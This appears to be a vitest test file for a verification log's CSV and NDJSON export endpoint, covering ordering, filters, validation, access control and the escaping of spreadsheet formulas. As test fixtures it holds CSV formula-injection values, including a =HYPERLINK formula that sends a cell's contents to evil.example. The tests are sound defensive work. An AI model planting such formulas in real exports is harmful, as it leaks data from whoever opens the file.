import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseCsv } from '../helpers/csv.js'
import { asBrowser, asScript, createTestAccount, createTestSite, type CreatedSite, type TestAccount } from '../helpers/dashboard-client.js'
import { createReadOnlyKey, expectValidationError, listAllPages, ndjsonLines, withDaysAround } from '../helpers/log-export.js'
import { buildTestApp, deployments, type TestApp } from '../helpers/test-app.js'
import { insertVerifications, type VerificationRow } from '../helpers/verification-rows.js'

const actions = ['allow', 'challenge', 'block', 'rejected'] as const
const DEVICE = 'a1b2c3d4e5f6a7b8c9d0e1f2'
const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
/** A cell of its own where Excel's list separator is `;` (German, French locales) unless quoted. */
const AFTER_SEMICOLON = 'Mozilla/5.0;=HYPERLINK("https://evil.example/")'
/** Spreadsheets skip the space and run the formula. */
const AFTER_SPACE = ' =1+1'
/** More rows than one batch of the export (500) holds, twice over. */
const ROW_COUNT = 1_200

type Item = Record<string, string | number | null | string[]>

/** A listing item's field as the CSV writes it, for fields that need no neutralising. */
const plainCell = (value: Item[string]) => (value === null ? '' : Array.isArray(value) ? value.join(';') : String(value))

describe.each(deployments)('exports of the verification log on $name', ({ available, options }) => {
  let service: TestApp
  let account: TestAccount
  let stranger: TestAccount
  let site: CreatedSite
  const base = Date.now() - 7_200_000

  beforeAll(async () => {
    if (!available) return
    service = await buildTestApp(options)
    account = await createTestAccount(service.app)
    stranger = await createTestAccount(service.app)
    site = await createTestSite(service.app, account, { name: 'Shop (EU)' })
    const other = await createTestSite(service.app, account)
    const rows: VerificationRow[] = Array.from({ length: ROW_COUNT }, (_, index) => ({
      id: randomUUID(),
      siteId: site.id,
      // Groups of three share a millisecond: batches must neither skip nor repeat them.
      createdAt: new Date(base + Math.floor(index / 3) * 1000),
      action: actions[index % 4] ?? 'allow',
      anomalies: index % 5 === 0 ? ['datacenter_ip', 'headless_browser'] : [],
      hostname: index % 7 === 0 ? 'shop.example' : null,
      device: index % 10 === 0 ? DEVICE : null,
      userAgent: index === 1 ? HYPERLINK : index === 2 ? 'Agent, "quoted"\r\nnext line' : index === 3 ? '-1+1' : index === 4 ? AFTER_SEMICOLON : index === 5 ? AFTER_SPACE : null,
    }))
    await insertVerifications(service.app.database, rows)
    await insertVerifications(service.app.database, [{ siteId: other.id, createdAt: new Date(base), action: 'allow' }])
  }, 60_000)
  afterAll(async () => {
    if (available) await service.close()
  })

  const exportOf = (query: string, headers: Record<string, string> = asScript(account), siteId = site.id) =>
    service.app.inject({ method: 'GET', url: `/api/v1/sites/${siteId}/verifications/export${query}`, headers })

  /** Every item the listing answers for the query (starting with &). */
  const listAll = (query: string) => listAllPages<Item>(service.app, `/api/v1/sites/${site.id}/verifications?${query}`, asScript(account))

  it.skipIf(!available)('answers a CSV file of every row, newest first, each once, with the listing’s fields as columns', async () => {
    const { result: response, days } = await withDaysAround(() => exportOf(''))
    expect(response.statusCode, response.body).toBe(200)
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(days.map((day) => `attachment; filename="tollgate-shop-eu-verifications-${day}.csv"`)).toContain(response.headers['content-disposition'])
    const [header, ...records] = parseCsv(response.body)
    const listed = await listAll('')
    expect(listed).toHaveLength(ROW_COUNT)
    expect(header).toEqual(Object.keys(listed[0] ?? {}))
    expect(records.map((record) => record[0])).toEqual(listed.map((item) => item.id))
    const columns = header ?? []
    const userAgentColumn = columns.indexOf('userAgent')
    records.forEach((record, index) => {
      const item = listed[index] ?? {}
      const expected = columns.map((column) => plainCell(item[column] ?? null))
      // The user agents with formula characters are checked on their own below.
      expect(record.toSpliced(userAgentColumn, 1)).toEqual(expected.toSpliced(userAgentColumn, 1))
    })
  })

  it.skipIf(!available)('neutralises cells a spreadsheet would run as formulas, and quotes commas, semicolons, quotes and line breaks', async () => {
    const response = await exportOf('')
    const [header, ...records] = parseCsv(response.body)
    const userAgents = records.map((record) => record[header?.indexOf('userAgent') ?? -1]).filter((cell) => cell !== '')
    expect(userAgents.toSorted()).toEqual([`'${HYPERLINK}`, "'-1+1", 'Agent, "quoted"\r\nnext line', AFTER_SEMICOLON, `'${AFTER_SPACE}`].toSorted())
    expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`)
    expect(response.body).toContain('"Agent, ""quoted""\r\nnext line"')
    // Quoted whole, so that no separator splits it into a cell that begins with =.
    expect(response.body).toContain(',"Mozilla/5.0;=HYPERLINK(""https://evil.example/"")",')
    expect(response.body).toContain(",' =1+1,")
  })

  it.skipIf(!available)('answers NDJSON lines equal to the listing’s items', async () => {
    const response = await exportOf('?format=ndjson')
    expect(response.statusCode, response.body).toBe(200)
    expect(response.headers['content-type']).toBe('application/x-ndjson')
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="tollgate-shop-eu-verifications-\d{4}-\d{2}-\d{2}\.ndjson"$/)
    expect(response.body.endsWith('\n')).toBe(true)
    expect(ndjsonLines<Item>(response.body)).toEqual(await listAll(''))
  })

  it.skipIf(!available)('keeps the filters of the listing and the range from <= createdAt < to', async () => {
    const from = new Date(base + 100_000)
    const to = new Date(base + 300_000)
    const inRange = (item: Item) => Date.parse(String(item.createdAt)) >= from.getTime() && Date.parse(String(item.createdAt)) < to.getTime()
    const range = `from=${from.toISOString()}&to=${to.toISOString()}`
    for (const filter of ['action=block&', `device=${DEVICE.toUpperCase()}&`, `action=allow&device=${DEVICE}&`, '']) {
      const expected = (await listAll(`&${filter}`)).filter(inRange)
      expect(expected.length).toBeGreaterThan(0)
      const response = await exportOf(`?${filter}${range}&format=ndjson`)
      expect(response.statusCode, response.body).toBe(200)
      expect(ndjsonLines<Item>(response.body)).toEqual(expected)
    }
    const reference = String((await listAll('&action=challenge'))[0]?.id).slice(0, 13)
    const found = parseCsv((await exportOf(`?reference=${reference}`)).body)
    expect(found.map((record) => record[0]?.slice(0, 13))).toEqual(['id', reference])
  })

  it.skipIf(!available)('answers only the header for a range with no rows, from = to included', async () => {
    const at = new Date(base + 60_000).toISOString()
    const response = await exportOf(`?from=${at}&to=${at}`)
    expect(response.statusCode).toBe(200)
    expect(parseCsv(response.body)).toHaveLength(1)
    expect((await exportOf(`?from=${at}&to=${at}&format=ndjson`)).body).toBe('')
  })

  it.skipIf(!available).each([
    ['?from=2026-02-02T00:00:00Z&to=2026-02-01T00:00:00Z', 'querystring.from'],
    ['?from=yesterday', 'querystring.from'],
    ['?to=2026-13-01T00:00:00Z', 'querystring.to'],
    ['?from=0001-01-01T00:00:00Z', 'querystring.from'],
    ['?from=2026-02-01T00:00:00.1234Z', 'querystring.from'],
    ['?to=2026-02-01T00:00:00.123456%2B01:00', 'querystring.to'],
    ['?format=xlsx', 'querystring.format'],
    ['?action=maybe', 'querystring.action'],
    ['?device=not-a-device', 'querystring.device'],
  ])('answers 400 validation_error for %s', async (query, field) => {
    expectValidationError(await exportOf(query), field)
  })

  it.skipIf(!available)("answers 401 without credentials and 404 for another account's site, as the listing does", async () => {
    const unauthenticated = await exportOf('', {})
    expect(unauthenticated.statusCode).toBe(401)
    expect(unauthenticated.json().error.code).toBe('unauthorized')
    for (const headers of [asScript(stranger), asBrowser(stranger)]) {
      const response = await exportOf('', headers)
      const listing = await service.app.inject({ method: 'GET', url: `/api/v1/sites/${site.id}/verifications`, headers })
      expect(response.statusCode).toBe(404)
      expect(response.json().error.code).toBe('not_found')
      expect(listing.statusCode).toBe(404)
    }
  })

  it.skipIf(!available)('lets a read-only API key export', async () => {
    const byReadKey = await exportOf('?format=ndjson&action=block', { authorization: `Bearer ${await createReadOnlyKey(service.app, account)}` })
    expect(byReadKey.statusCode, byReadKey.body).toBe(200)
    expect(byReadKey.body.trimEnd().split('\n')).toHaveLength(ROW_COUNT / 4)
  })

  // GETs are never checked for Origin (only state-changing requests are): what this pins is that
  // the session cookie alone, all a download link sends, is enough for the export.
  it.skipIf(!available)('lets the session cookie alone export, as a download link sends it', async () => {
    const byLink = await exportOf('', { cookie: account.cookie })
    expect(byLink.statusCode, byLink.body).toBe(200)
    expect(parseCsv(byLink.body)).toHaveLength(ROW_COUNT + 1)
  })
})
